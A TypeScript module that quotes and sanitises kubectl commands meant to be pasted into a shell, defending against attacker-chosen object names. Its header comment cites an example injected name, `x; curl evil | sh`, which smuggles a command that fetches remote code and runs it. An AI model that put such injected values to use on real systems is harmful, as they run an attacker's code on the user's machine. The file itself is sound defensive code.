/**
 * Lines that users paste into a shell. An attacker chooses the names in them: a role binding may be called `x; curl
 * evil | sh`, `--all`, or hold control characters. So every argument is quoted, a name always has its type before
 * it (`type/name`) and is never taken for an option, and a command that a shell would read differently is replaced
 * by a comment that says so.
 */

/** A line of a fix: a comment for users, or a command of kubectl. */
export type FixStep = { readonly comment: string } | { readonly args: readonly string[]; readonly stdin?: string };

export const comment = (text: string): FixStep => ({ comment: text });

export const kubectl = (...args: readonly string[]): FixStep => ({ args });

/** Returns a command that applies a manifest. */
export const kubectlApply = (manifest: unknown): FixStep => ({
  args: ['apply', '-f', '-'],
  stdin: jsonArgument(manifest),
});

/** Returns the option for the namespace, if the object has one. */
export const inNamespace = (namespace: string): readonly string[] => (namespace === '' ? [] : ['-n', namespace]);

/**
 * Controls, formats, unassigned characters (Unicode's category C) and line separators. Pasted into a terminal, an
 * attacker's control characters act as keys and end the paste; zsh and fish drop some, so that the command is about
 * another object.
 */
const UNTYPED = /[\p{C}\p{Zl}\p{Zp}]+/gu;

/**
 * Returns JSON as an argument of a command; characters that cannot be typed are escapes, so its meaning is the
 * same.
 */
export const jsonArgument = (value: unknown): string =>
  JSON.stringify(value).replace(UNTYPED, (characters) =>
    characters.replaceAll(/[^]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`),
  );

/** Characters that no shell interprets. */
const PLAIN = /^[A-Za-z0-9_/:.,@+-]+$/;

/**
 * Quotes one argument for sh, bash, zsh and fish alike. A backslash is between double quotes: fish interprets it
 * between single ones, and the history expansion of bash takes a bare one as the escape of the quote that follows.
 */
const quoted = (text: string): string =>
  `'${text.replaceAll(/['\\]/g, (one) => (one === "'" ? `'\\''` : `'"\\\\"'`))}'`;

const shellArgument = (text: string): string => (PLAIN.test(text) ? text : quoted(text));

/**
 * Bytes that a terminal accepts in one line: 1024 on macOS, 4096 on Linux. It drops the rest, and with it the end
 * of a quote.
 */
export const LONGEST_TYPED = 1000;

/** Bytes of the longest command: Linux accepts no argument of more than twice that. */
const LONGEST_COMMAND = 64 * 1024;

/**
 * Returns a line that no shell runs. An interactive zsh, the default of macOS, has no comments, and would run an
 * attacker's `$(…)` in a name, so the text is quoted as well. A line break in a name would make the rest of it a
 * command, so it is replaced.
 */
export function commentLine(text: string): string {
  const plain = text.replaceAll(UNTYPED, ' ').trim();
  // Quoted as a whole, plain text too: a shell may have an alias for any of it.
  let line = `# ${quoted(plain)}`;
  // Cut before it is quoted, so that the quote always ends.
  for (let length = LONGEST_TYPED; Buffer.byteLength(line) > LONGEST_TYPED; length = Math.floor(length * 0.9)) {
    line = `# ${quoted(`${plain.slice(0, length)}…`)}`;
  }
  return line;
}

/**
 * @param context of the kubeconfig. The user's current one may be another cluster, where the same names mean other
 *   objects
 */
export function shellLine(fix: FixStep, context: string): string {
  if ('comment' in fix) return commentLine(fix.comment);
  const { args, stdin } = fix;
  const all = ['--context', context, ...args];
  const command = ['kubectl', ...all.map(shellArgument)].join(' ');
  const line = stdin === undefined ? command : `printf %s ${shellArgument(stdin)} | ${command}`;
  if (line.search(UNTYPED) !== -1) return commandAsComment(args, 'a name in it has characters that cannot be typed');
  return Buffer.byteLength(line) > LONGEST_COMMAND ? commandAsComment(args, 'it is too long for one command') : line;
}

const commandAsComment = (args: readonly string[], why: string): string =>
  commentLine(`manually, because ${why}: kubectl ${args.slice(0, 2).join(' ')}`);
